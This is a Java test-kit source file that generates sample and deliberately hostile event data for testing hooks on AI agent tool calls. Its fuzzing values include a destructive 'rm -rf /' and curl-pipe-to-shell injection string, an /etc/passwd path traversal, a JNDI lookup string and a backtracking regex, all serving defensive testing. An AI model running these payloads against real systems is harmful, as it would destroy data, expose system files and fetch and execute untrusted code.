package dev.carabiner.testkit;

import dev.carabiner.event.EventData;
import dev.carabiner.event.EventType;
import dev.carabiner.event.Events;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Data of events to try hooks with: usual ones, and what a broken or hostile agent might send. */
public final class SampleEvents {

    private static final Map<String, Object> USUAL = Map.ofEntries(
            Map.entry("tool_name", "Write"),
            Map.entry("tool_input", Map.of("file_path", "notes.txt", "content", "hello\n")),
            Map.entry("tool_result", Map.of("success", true, "output", "written")),
            Map.entry("success", true),
            Map.entry("prompt", "hello"),
            Map.entry("response", "hello"),
            Map.entry("messages", List.of(Map.of("role", "user", "content", "hello"))),
            Map.entry("error", Map.of("type", "IOException", "message", "no")),
            Map.entry("usage", Map.of("input_tokens", 1, "output_tokens", 1)),
            Map.entry("duration_ms", 1),
            Map.entry("metadata", Map.of()),
            Map.entry("stats", Map.of()),
            Map.entry("result", Map.of("text", "done")),
            Map.entry("final_message", Map.of("role", "assistant", "content", "done")),
            Map.entry("config_override", Map.of()),
            Map.entry("available_tools", List.of("Read", "Write")),
            Map.entry("options", List.of("Allow", "Deny")),
            Map.entry("cached", false),
            Map.entry("mount_plan", Map.of("bundle", "test")));

    private static final List<String> NUMBERS = List.of("index", "attempt", "bytes");

    private SampleEvents() {}

    /** What such an event usually carries; what is not known of it is text. Only data of tools for a pattern. */
    public static EventData usual(String event) {
        EventType<?> type = Events.find(event);
        List<String> keys = type == null ? List.of("tool_name", "tool_input") : type.keys();
        EventData data = EventData.empty();
        for (String key : keys) {
            data = data.with(key, USUAL.getOrDefault(key, number(key) ? 1 : "text"));
        }
        return data.with("session_id", "s-1").with("timestamp", "2026-03-01T12:00:00Z");
    }

    private static boolean number(String key) {
        return key.endsWith("_ms") || key.endsWith("_tokens") || key.endsWith("_count") || NUMBERS.contains(key);
    }

    /** A call of a tool before it runs. */
    public static EventData toolPre(String tool, EventData input) {
        return usual("tool:pre").with("tool_name", tool).with("tool_input", input);
    }

    /**
     * The event with no data at all, with each value null, with each value of another type, and with each text hostile:
     * endless, with control and direction characters, half a surrogate pair, paths that lead out, commands, deep objects.
     */
    public static List<EventData> hostile(String event) {
        EventData usual = usual(event);
        List<EventData> all = new ArrayList<>(List.of(EventData.empty()));
        for (String key : usual.asMap().keySet()) {
            all.add(usual.without(key));
            for (Object value : values()) {
                all.add(usual.with(key, value));
            }
        }
        if (!usual.asMap().containsKey("tool_input")) {
            return all;
        }
        for (Object value : values()) {
            all.add(usual.with("tool_input", value));
            for (String key : List.of("file_path", "command", "content", "path")) {
                for (String tool : List.of("Write", "Bash", "Unheard-Of")) {
                    EventData input = EventData.empty().with(key, value);
                    all.add(usual.with("tool_name", tool).with("tool_input", input));
                }
            }
        }
        return all;
    }

    private static List<@Nullable Object> values() {
        List<@Nullable Object> values = new ArrayList<>(List.of(
                "",
                " ",
                "x".repeat(100_000),
                "\u0000\u001B[2J\u202E\u200B\uD800%s{0}${jndi:x}",
                "../../../../../../etc/passwd",
                "a; rm -rf / && $(curl x | sh) `id` <<E",
                "((((((((((((((((((((((((".repeat(40),
                "(a+)+$",
                Long.MAX_VALUE,
                -0.5,
                true,
                List.of(),
                Collections.nCopies(500, "x"),
                Map.of(),
                nested(40)));
        values.add(null);
        return values;
    }

    private static Object nested(int depth) {
        Object value = "deep";
        for (int i = 0; i < depth; i++) {
            value = Map.of("k", List.of(value));
        }
        return value;
    }
}
